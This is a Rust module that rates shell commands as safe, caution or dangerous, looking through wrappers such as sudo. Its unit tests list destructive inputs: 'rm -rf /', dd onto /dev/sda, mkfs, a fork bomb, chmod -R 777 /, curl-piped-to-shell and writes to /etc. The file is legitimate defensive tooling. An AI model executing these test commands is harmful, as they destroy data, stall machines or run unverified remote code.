//! Risk rules: each simple command (wrappers such as `sudo`, `env`, `xargs` and
//! `find -exec` looked through) and each pipeline is rated safe, caution or dangerous,
//! always with the reason.

use schemars::JsonSchema;
use serde::Serialize;

use crate::parse::{RedirectOp, Script, SimpleCommand, WordInfo, basename};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum RiskLevel {
    Safe,
    Caution,
    Dangerous,
}

/// One reason a command is not safe.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, JsonSchema)]
pub struct RiskReason {
    pub level: RiskLevel,
    /// Stable rule identifier, e.g. `recursive-delete-root`.
    pub rule: String,
    /// The command (as normalized by the parser) the rule matched.
    pub command: String,
    pub reason: String,
}

#[derive(Debug, Clone, Serialize, JsonSchema)]
pub struct Assessment {
    pub level: RiskLevel,
    pub reasons: Vec<RiskReason>,
}

/// Directories whose loss or modification breaks the system.
const SYSTEM_DIRS: &[&str] = &[
    "/bin", "/boot", "/dev", "/etc", "/home", "/lib", "/lib32", "/lib64", "/opt", "/proc", "/root",
    "/sbin", "/srv", "/sys", "/usr", "/var",
];
/// Block device name prefixes under `/dev`.
const BLOCK_DEVICES: &[&str] = &[
    "/dev/sd",
    "/dev/hd",
    "/dev/vd",
    "/dev/xvd",
    "/dev/nvme",
    "/dev/mmcblk",
    "/dev/md",
    "/dev/dm-",
    "/dev/loop",
    "/dev/disk/",
    "/dev/mapper/",
    "/dev/mem",
    "/dev/kmem",
    "/dev/port",
];
const SHELLS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "fish", "busybox",
];
const INTERPRETERS: &[&str] = &[
    "python", "python2", "python3", "perl", "ruby", "node", "php",
];
const DOWNLOADERS: &[&str] = &["curl", "wget", "fetch", "aria2c"];

/// Strips command wrappers (`sudo`, `env`, `nice`, `timeout`, `xargs`…) and their
/// options, returning the argv of the command that really runs.
pub fn effective_argv(words: &[WordInfo]) -> &[WordInfo] {
    let mut rest = words;
    loop {
        let Some(first) = rest.first() else {
            return rest;
        };
        // Options of each wrapper that take a separate value.
        let takes_value: &[&str] = match basename(&first.literal) {
            "sudo" => &[
                "-u", "-g", "-p", "-C", "-D", "-h", "-r", "-t", "-U", "-R", "-T",
            ],
            "doas" => &["-u", "-C"],
            "env" => &["-u", "-C", "-S", "--unset", "--chdir"],
            "nice" => &["-n", "--adjustment"],
            "ionice" => &["-c", "-n", "-p", "-P", "-u"],
            "timeout" => &["-s", "-k", "--signal", "--kill-after"],
            "xargs" => &[
                "-I",
                "-n",
                "-P",
                "-d",
                "-L",
                "-s",
                "-a",
                "-E",
                "--delimiter",
            ],
            "exec" => &["-a"],
            "watch" => &["-n", "--interval", "-d"],
            "nohup" | "time" | "command" | "builtin" | "setsid" | "stdbuf" | "chrt" | "taskset"
            | "unbuffer" | "caffeinate" | "chronic" => &[],
            _ => return rest,
        };
        let wrapper = basename(&first.literal);
        rest = &rest[1..];
        while let Some(w) = rest.first() {
            let lit = w.literal.as_str();
            if lit == "--" {
                rest = &rest[1..];
                break;
            }
            let is_env_assignment = wrapper == "env" && lit.contains('=') && !lit.starts_with('=');
            let is_number = lit.parse::<f64>().is_ok()
                || (wrapper == "timeout"
                    && lit
                        .trim_end_matches(['s', 'm', 'h', 'd'])
                        .parse::<f64>()
                        .is_ok());
            if lit.starts_with('-') && lit.len() > 1 {
                rest = &rest[if takes_value.contains(&lit) { 2 } else { 1 }.min(rest.len())..];
            } else if is_env_assignment
                || ((wrapper == "chrt" || wrapper == "taskset") && is_number)
            {
                rest = &rest[1..];
            } else if wrapper == "timeout" && is_number {
                rest = &rest[1..];
                break;
            } else {
                break;
            }
        }
    }
}

/// Whether `words` (after the command name) hold the short flag `flag` (clustered, e.g.
/// `-rf`) or one of the long options.
fn has_flag(args: &[WordInfo], short: char, long: &[&str]) -> bool {
    args.iter()
        .map(|w| w.literal.as_str())
        .take_while(|a| *a != "--")
        .any(|a| {
            long.contains(&a)
                || (a.starts_with('-') && !a.starts_with("--") && a[1..].contains(short))
        })
}

/// Non-option arguments (everything after `--` counts).
fn operands(args: &[WordInfo]) -> Vec<&WordInfo> {
    let mut out = Vec::new();
    let mut options_done = false;
    for w in args {
        if !options_done && w.literal == "--" {
            options_done = true;
        } else if options_done || !w.literal.starts_with('-') || w.literal == "-" {
            out.push(w);
        }
    }
    out
}

/// `/`, `/*`, `~`, `$HOME`, `.`, `..` and system directories (with or without `/*`).
fn is_critical_path(path: &str) -> bool {
    let trimmed = path.trim_end_matches("/*").trim_end_matches('/');
    let trimmed = if trimmed.is_empty() { "/" } else { trimmed };
    matches!(
        trimmed,
        "/" | "~" | "$HOME" | "${HOME}" | "." | ".." | "*" | "/*" | "~/*"
    ) || SYSTEM_DIRS.contains(&trimmed)
}

fn is_under(path: &str, dir: &str) -> bool {
    path == dir
        || path
            .strip_prefix(dir)
            .is_some_and(|rest| rest.starts_with('/'))
}

fn is_system_path(path: &str) -> bool {
    SYSTEM_DIRS.iter().any(|d| is_under(path, d))
}

fn is_block_device(path: &str) -> bool {
    BLOCK_DEVICES.iter().any(|d| path.starts_with(d))
}

/// `$DIR/…` with no `${DIR:?}` guard: deletes from `/` when DIR is empty.
fn starts_with_unguarded_variable(word: &WordInfo) -> bool {
    let lit = word.literal.as_str();
    (lit.starts_with('$') && !lit.starts_with("$(") && !lit.contains(":?")) && lit.contains('/')
}

struct Rater<'s> {
    reasons: Vec<RiskReason>,
    script: &'s Script,
}

impl Rater<'_> {
    fn add(&mut self, level: RiskLevel, rule: &str, command: &SimpleCommand, reason: String) {
        self.reasons.push(RiskReason {
            level,
            rule: rule.to_owned(),
            command: command.text.clone(),
            reason,
        });
    }

    fn command(&mut self, command: &SimpleCommand) {
        use RiskLevel::{Caution, Dangerous};
        for w in &command.words {
            match basename(&w.literal) {
                "sudo" | "doas" | "su" | "pkexec" | "run0" => self.add(
                    Dangerous,
                    "privilege-escalation",
                    command,
                    format!(
                        "`{}` runs with root privileges: any mistake affects the whole system",
                        w.literal
                    ),
                ),
                _ => {}
            }
            if !matches!(
                basename(&w.literal),
                "sudo"
                    | "doas"
                    | "env"
                    | "nice"
                    | "nohup"
                    | "time"
                    | "timeout"
                    | "xargs"
                    | "command"
                    | "exec"
                    | "setsid"
                    | "stdbuf"
                    | "ionice"
                    | "builtin"
            ) {
                break;
            }
        }
        if let Some(first) = command.words.first()
            && !first.is_static
            && !first.literal.starts_with('~')
        {
            self.add(
                Caution,
                "dynamic-command",
                command,
                format!(
                    "the command name `{}` is only known at run time",
                    first.literal
                ),
            );
        }
        for r in &command.redirects {
            self.redirect(command, r.op, r.target.as_ref());
        }
        let argv = effective_argv(&command.words);
        self.argv(command, argv);
    }

    fn redirect(&mut self, command: &SimpleCommand, op: RedirectOp, target: Option<&WordInfo>) {
        use RiskLevel::{Caution, Dangerous};
        let Some(target) = target.filter(|_| op.writes()) else {
            return;
        };
        let path = target.literal.as_str();
        if is_block_device(path) {
            self.add(
                Dangerous,
                "write-device",
                command,
                format!("redirects output onto the device `{path}`, destroying its data"),
            );
        } else if is_system_path(path)
            && !path.starts_with("/dev/")
            && !path.starts_with("/proc/self/")
        {
            self.add(
                Dangerous,
                "write-system-file",
                command,
                format!("writes to `{path}`, a system location"),
            );
        } else if matches!(
            op,
            RedirectOp::Write | RedirectOp::Clobber | RedirectOp::OutputAndError
        ) && !path.starts_with("/dev/")
        {
            self.add(
                Caution,
                "overwrite-file",
                command,
                format!("overwrites `{path}`"),
            );
        }
    }

    fn argv(&mut self, command: &SimpleCommand, argv: &[WordInfo]) {
        use RiskLevel::{Caution, Dangerous};
        let Some(first) = argv.first() else {
            return;
        };
        let name = basename(&first.literal);
        let args = &argv[1..];
        let ops = operands(args);
        match name {
            "rm" | "rmdir" | "unlink" => {
                let recursive = has_flag(args, 'r', &["--recursive"]) || has_flag(args, 'R', &[]);
                if args.iter().any(|w| w.literal == "--no-preserve-root") {
                    self.add(
                        Dangerous,
                        "recursive-delete-root",
                        command,
                        "`--no-preserve-root` disables the last safeguard against deleting `/`"
                            .into(),
                    );
                }
                for target in &ops {
                    let path = target.literal.as_str();
                    if recursive && is_critical_path(path) {
                        self.add(
                            Dangerous,
                            "recursive-delete-root",
                            command,
                            format!("recursively deletes `{path}`"),
                        );
                    } else if is_system_path(path) {
                        self.add(
                            Dangerous,
                            "delete-system-file",
                            command,
                            format!("deletes `{path}`, a system location"),
                        );
                    } else if recursive && starts_with_unguarded_variable(target) {
                        self.add(Caution, "recursive-delete-unguarded-variable", command, format!("recursively deletes `{path}`: if the variable is empty this starts at `/`; use `${{VAR:?}}`"));
                    } else if recursive {
                        self.add(
                            Caution,
                            "recursive-delete",
                            command,
                            format!("recursively deletes `{path}`"),
                        );
                    } else {
                        self.add(Caution, "delete", command, format!("deletes `{path}`"));
                    }
                }
            }
            "dd" => {
                let target = args.iter().find_map(|w| w.literal.strip_prefix("of="));
                match target {
                    Some(dev) if is_block_device(dev) => self.add(
                        Dangerous,
                        "write-device",
                        command,
                        format!("`dd` writes raw data onto the device `{dev}`, destroying it"),
                    ),
                    Some(file) if is_system_path(file) && !file.starts_with("/dev/") => self.add(
                        Dangerous,
                        "write-system-file",
                        command,
                        format!("`dd` overwrites `{file}`, a system location"),
                    ),
                    Some(file) if !file.starts_with("/dev/") => self.add(
                        Caution,
                        "overwrite-file",
                        command,
                        format!("`dd` overwrites `{file}`"),
                    ),
                    _ => {}
                }
            }
            n if n.starts_with("mkfs")
                || matches!(
                    n,
                    "mke2fs"
                        | "mkswap"
                        | "wipefs"
                        | "fdisk"
                        | "sfdisk"
                        | "cfdisk"
                        | "parted"
                        | "gdisk"
                        | "sgdisk"
                        | "blkdiscard"
                        | "cryptsetup"
                ) =>
            {
                self.add(
                    Dangerous,
                    "format-device",
                    command,
                    format!("`{n}` formats or repartitions a disk, destroying its data"),
                );
            }
            "shred" => {
                let level = if ops
                    .iter()
                    .any(|w| is_block_device(&w.literal) || is_system_path(&w.literal))
                {
                    Dangerous
                } else {
                    Caution
                };
                self.add(
                    level,
                    "shred",
                    command,
                    "`shred` irrecoverably overwrites its targets".into(),
                );
            }
            "chmod" | "chown" | "chgrp" => {
                let recursive = has_flag(args, 'R', &["--recursive"]);
                let world_writable = ops.first().is_some_and(|m| {
                    let m = m.literal.as_str();
                    m.ends_with("777")
                        || m.ends_with("666")
                        || m.contains("a+w")
                        || m.contains("o+w")
                        || m.contains("a+rwx")
                        || m.contains("+rwx") && !m.starts_with('u')
                }) && name == "chmod";
                let on_critical = ops
                    .iter()
                    .skip(1)
                    .any(|w| is_critical_path(&w.literal) || is_system_path(&w.literal));
                if recursive && (world_writable || on_critical) {
                    let what = if world_writable {
                        "makes every file below world-writable"
                    } else {
                        "changes ownership or permissions of a system tree"
                    };
                    self.add(
                        Dangerous,
                        "recursive-permissions",
                        command,
                        format!("`{name} -R` {what}"),
                    );
                } else if world_writable {
                    self.add(
                        Caution,
                        "world-writable",
                        command,
                        "makes files writable by every user".into(),
                    );
                } else if recursive {
                    self.add(
                        Caution,
                        "recursive-permissions",
                        command,
                        format!("`{name} -R` changes a whole tree"),
                    );
                }
            }
            "shutdown" | "reboot" | "halt" | "poweroff" | "kexec" => {
                self.add(
                    Dangerous,
                    "power",
                    command,
                    format!("`{name}` stops or restarts the machine"),
                );
            }
            "init" | "telinit"
                if ops
                    .first()
                    .is_some_and(|w| matches!(w.literal.as_str(), "0" | "6")) =>
            {
                self.add(
                    Dangerous,
                    "power",
                    command,
                    "changes the runlevel to halt or reboot".into(),
                );
            }
            "systemctl"
                if ops.first().is_some_and(|w| {
                    matches!(
                        w.literal.as_str(),
                        "poweroff" | "reboot" | "halt" | "kexec" | "suspend" | "hibernate"
                    )
                }) =>
            {
                self.add(
                    Dangerous,
                    "power",
                    command,
                    "stops, restarts or suspends the machine".into(),
                );
            }
            "kill" | "pkill" | "killall" => {
                if name == "kill" && args.iter().any(|w| w.literal == "-1") && args.len() >= 2
                    || args.iter().any(|w| w.literal == "-1") && args.len() == 1
                {
                    self.add(
                        Dangerous,
                        "kill-all",
                        command,
                        "`kill -1` signals every process the user can reach".into(),
                    );
                } else {
                    self.add(
                        Caution,
                        "kill",
                        command,
                        format!("`{name}` terminates processes"),
                    );
                }
            }
            "crontab" if has_flag(args, 'r', &[]) => {
                self.add(
                    Dangerous,
                    "crontab-remove",
                    command,
                    "`crontab -r` deletes every cron job without confirmation".into(),
                );
            }
            "mv" | "cp" | "install" | "ln" | "rsync" | "tee" | "truncate" | "touch" | "sed"
            | "perl" => {
                let in_place =
                    !matches!(name, "sed" | "perl") || has_flag(args, 'i', &["--in-place"]);
                let targets: Vec<&WordInfo> = match name {
                    "tee" | "truncate" | "touch" | "sed" | "perl" => ops.clone(),
                    _ => ops.last().copied().into_iter().collect(),
                };
                for t in targets.iter().filter(|_| in_place) {
                    let path = t.literal.as_str();
                    if name == "mv" && path == "/dev/null" {
                        self.add(
                            Dangerous,
                            "move-to-dev-null",
                            command,
                            "moving files onto /dev/null destroys them".into(),
                        );
                    } else if is_block_device(path) {
                        self.add(
                            Dangerous,
                            "write-device",
                            command,
                            format!("writes onto the device `{path}`"),
                        );
                    } else if is_system_path(path) && !path.starts_with("/dev/") {
                        self.add(
                            Dangerous,
                            "write-system-file",
                            command,
                            format!("`{name}` writes to `{path}`, a system location"),
                        );
                    }
                }
                if name == "mv"
                    && ops
                        .iter()
                        .rev()
                        .skip(1)
                        .any(|w| is_critical_path(&w.literal))
                {
                    self.add(
                        Dangerous,
                        "move-critical",
                        command,
                        "moves a critical directory away".into(),
                    );
                }
            }
            "find" => self.find(command, args),
            "git" => {
                let sub = ops.first().map(|w| w.literal.as_str());
                match sub {
                    Some("push") if has_flag(args, 'f', &["--force", "--force-with-lease"]) => self
                        .add(
                            Caution,
                            "git-force-push",
                            command,
                            "force-push rewrites the remote history".into(),
                        ),
                    Some("reset") if args.iter().any(|w| w.literal == "--hard") => self.add(
                        Caution,
                        "git-discard",
                        command,
                        "`git reset --hard` discards uncommitted work".into(),
                    ),
                    Some("clean") if has_flag(args, 'f', &["--force"]) => self.add(
                        Caution,
                        "git-discard",
                        command,
                        "`git clean -f` deletes untracked files".into(),
                    ),
                    _ => {}
                }
            }
            n if DOWNLOADERS.contains(&n) => {
                self.add(
                    Caution,
                    "network",
                    command,
                    format!("`{n}` downloads from the network"),
                );
            }
            n if SHELLS.contains(&n)
                || INTERPRETERS.contains(&n)
                || n == "eval"
                || n == "source"
                || n == "." =>
            {
                let downloads = args.iter().any(|w| {
                    self.script.commands[w.nested_commands.clone()]
                        .iter()
                        .any(|c| {
                            effective_argv(&c.words)
                                .first()
                                .is_some_and(|f| DOWNLOADERS.contains(&basename(&f.literal)))
                        })
                });
                if downloads {
                    self.add(Dangerous, "download-and-execute", command, format!("runs code downloaded from the network with `{n}` without any verification"));
                }
            }
            _ => {}
        }
    }

    fn find(&mut self, command: &SimpleCommand, args: &[WordInfo]) {
        use RiskLevel::{Caution, Dangerous};
        let roots: Vec<&str> = args
            .iter()
            .map(|w| w.literal.as_str())
            .take_while(|a| !a.starts_with('-') && *a != "(" && *a != "!")
            .collect();
        if args.iter().any(|w| w.literal == "-delete") {
            let level = if roots.iter().any(|r| is_critical_path(r)) {
                Dangerous
            } else {
                Caution
            };
            self.add(
                level,
                "find-delete",
                command,
                format!(
                    "`find -delete` removes every match below {}",
                    roots.join(" ")
                ),
            );
        }
        let mut i = 0;
        while i < args.len() {
            if matches!(
                args[i].literal.as_str(),
                "-exec" | "-execdir" | "-ok" | "-okdir"
            ) {
                let end = args[i + 1..]
                    .iter()
                    .position(|w| w.literal == ";" || w.literal == "+")
                    .map_or(args.len(), |p| i + 1 + p);
                let inner = &args[i + 1..end];
                let before = self.reasons.len();
                self.argv(command, effective_argv(inner));
                // A delete under a dangerous root is dangerous whatever the pattern.
                let deletes = inner.first().is_some_and(|w| basename(&w.literal) == "rm");
                if deletes
                    && roots.iter().any(|r| is_critical_path(r))
                    && self.reasons[before..].iter().all(|r| r.level != Dangerous)
                {
                    self.add(
                        Dangerous,
                        "find-delete",
                        command,
                        format!("`find -exec rm` deletes matches below {}", roots.join(" ")),
                    );
                }
                i = end;
            }
            i += 1;
        }
    }

    fn pipelines(&mut self) {
        use RiskLevel::Dangerous;
        let script = self.script;
        for pipeline in &script.pipelines {
            let stages: Vec<Option<&SimpleCommand>> = pipeline
                .stages
                .iter()
                .map(|s| s.map(|i| &script.commands[i]))
                .collect();
            let download = stages.iter().position(|s| {
                s.and_then(|c| effective_argv(&c.words).first())
                    .is_some_and(|w| DOWNLOADERS.contains(&basename(&w.literal)))
            });
            let Some(download) = download else { continue };
            for c in stages[download + 1..].iter().flatten() {
                let runs = effective_argv(&c.words)
                    .first()
                    .map(|w| basename(&w.literal));
                if let Some(n) = runs
                    .filter(|n| SHELLS.contains(n) || INTERPRETERS.iter().any(|i| n.starts_with(i)))
                {
                    let n = n.to_owned();
                    self.add(Dangerous, "download-and-execute", c, format!("pipes a download straight into `{n}`: runs unverified code from the network"));
                }
            }
        }
        for function in &script.functions {
            let recursive_fanout = script.pipelines[function.pipelines.clone()]
                .iter()
                .any(|p| {
                    let calls_self = p
                        .stages
                        .iter()
                        .flatten()
                        .any(|&i| script.commands[i].name() == Some(function.name.as_str()));
                    calls_self && (p.stages.len() > 1 || p.background)
                });
            if recursive_fanout && let Some(first) = script.commands.get(function.commands.start) {
                let reason = format!(
                    "fork bomb: `{}` calls itself in a pipeline or in the background, multiplying processes until the machine stalls",
                    function.name
                );
                self.add(Dangerous, "fork-bomb", first, reason);
            }
        }
    }
}

/// Rates a parsed program.
pub fn assess(script: &Script) -> Assessment {
    let mut rater = Rater {
        reasons: Vec::new(),
        script,
    };
    for command in &script.commands {
        rater.command(command);
    }
    rater.pipelines();
    let mut reasons = rater.reasons;
    for opaque in &script.opaque {
        reasons.push(RiskReason {
            level: RiskLevel::Caution,
            rule: "opaque".to_owned(),
            command: String::new(),
            reason: opaque.clone(),
        });
    }
    let mut seen = std::collections::HashSet::new();
    reasons.retain(|r| seen.insert(r.clone()));
    reasons.sort_by_key(|r| std::cmp::Reverse(r.level));
    Assessment {
        level: reasons
            .iter()
            .map(|r| r.level)
            .max()
            .unwrap_or(RiskLevel::Safe),
        reasons,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parse::parse;

    fn level(src: &str) -> RiskLevel {
        assess(&parse(src).unwrap()).level
    }

    fn rules(src: &str) -> Vec<String> {
        assess(&parse(src).unwrap())
            .reasons
            .into_iter()
            .map(|r| r.rule)
            .collect()
    }

    #[test]
    fn safe_commands() {
        for src in ["ls -la", "echo hi | grep h", "cat a.txt", "git status"] {
            assert_eq!(level(src), RiskLevel::Safe, "{src}");
        }
    }

    #[test]
    fn recursive_deletes_of_root_and_home() {
        for src in [
            "rm -rf /",
            "rm -fr /*",
            "rm -r -f ~",
            "rm --recursive --force $HOME",
            "sudo rm -rf /",
            "echo $(rm -rf /)",
            "x=`rm -Rf /usr`",
            "rm -rf --no-preserve-root /tmp",
            "find / -delete",
            "find / -name '*.log' -exec rm {} +",
            "xargs rm -rf /",
            "bash -c 'rm -rf ~/'",
            "f() { rm -rf /; }",
            "rm /etc/passwd",
        ] {
            assert_eq!(level(src), RiskLevel::Dangerous, "{src}");
        }
        assert_eq!(level("rm -rf ./build"), RiskLevel::Caution);
        assert_eq!(level("rm file.txt"), RiskLevel::Caution);
        assert!(
            rules("rm -rf \"$DIR/\"*").contains(&"recursive-delete-unguarded-variable".to_owned())
        );
    }

    #[test]
    fn devices_and_formatting() {
        for src in [
            "dd if=/dev/zero of=/dev/sda bs=1M",
            "mkfs.ext4 /dev/sdb1",
            "mkswap /dev/nvme0n1p2",
            "echo x > /dev/sda",
            "cat img > /dev/mmcblk0",
            "shred /dev/sda",
        ] {
            assert_eq!(level(src), RiskLevel::Dangerous, "{src}");
        }
        assert_eq!(
            level("dd if=/dev/zero of=out.img bs=1M count=1"),
            RiskLevel::Caution
        );
        assert_eq!(level("echo x > /dev/null"), RiskLevel::Safe);
    }

    #[test]
    fn fork_bombs() {
        assert_eq!(rules(":(){ :|:& };:")[0], "fork-bomb");
        assert_eq!(rules("bomb() { bomb | bomb & }; bomb")[0], "fork-bomb");
        assert_eq!(level("f() { echo hi; }; f"), RiskLevel::Safe);
    }

    #[test]
    fn download_and_execute() {
        for src in [
            "curl -fsSL https://x.example/install.sh | sh",
            "wget -qO- http://x | sudo bash",
            "curl x | python3 -",
            "bash <(curl -s http://x)",
            "sh -c \"$(curl -fsSL http://x)\"",
            "eval \"$(wget -O- http://x)\"",
        ] {
            assert!(
                rules(src).contains(&"download-and-execute".to_owned()),
                "{src}"
            );
        }
        assert_eq!(level("curl -o file http://x"), RiskLevel::Caution);
    }

    #[test]
    fn permissions_and_system_writes() {
        for src in [
            "chmod -R 777 /",
            "chmod -R 777 .",
            "chown -R nobody /usr",
            "echo 'nameserver 1.1.1.1' > /etc/resolv.conf",
            "echo x | tee -a /etc/hosts",
            "sed -i 's/a/b/' /etc/ssh/sshd_config",
            "cp evil /etc/cron.d/x",
            "mv data /dev/null",
        ] {
            assert_eq!(level(src), RiskLevel::Dangerous, "{src}");
        }
        assert_eq!(level("chmod 777 file"), RiskLevel::Caution);
        assert_eq!(level("chmod +x script.sh"), RiskLevel::Safe);
        assert_eq!(level("sed 's/a/b/' /etc/hosts"), RiskLevel::Safe);
    }

    #[test]
    fn privilege_and_power() {
        assert_eq!(rules("sudo ls")[0], "privilege-escalation");
        assert_eq!(level("shutdown -h now"), RiskLevel::Dangerous);
        assert_eq!(level("systemctl reboot"), RiskLevel::Dangerous);
        assert_eq!(level("kill -9 -1"), RiskLevel::Dangerous);
        assert_eq!(level("kill 1234"), RiskLevel::Caution);
        assert_eq!(level("crontab -r"), RiskLevel::Dangerous);
    }

    #[test]
    fn wrappers_are_looked_through() {
        let words = parse("sudo -u root env A=1 nice -n 5 timeout 10s rm -rf x").unwrap();
        let argv = effective_argv(&words.commands[0].words);
        assert_eq!(argv[0].literal, "rm");
        assert_eq!(level("timeout 5 nice rm -rf /"), RiskLevel::Dangerous);
    }

    #[test]
    fn dynamic_and_opaque_are_caution() {
        assert!(rules("$CMD -x").contains(&"dynamic-command".to_owned()));
        assert!(rules("eval \"$x\"").contains(&"opaque".to_owned()));
        assert_eq!(level("echo hi > out.txt"), RiskLevel::Caution);
    }
}
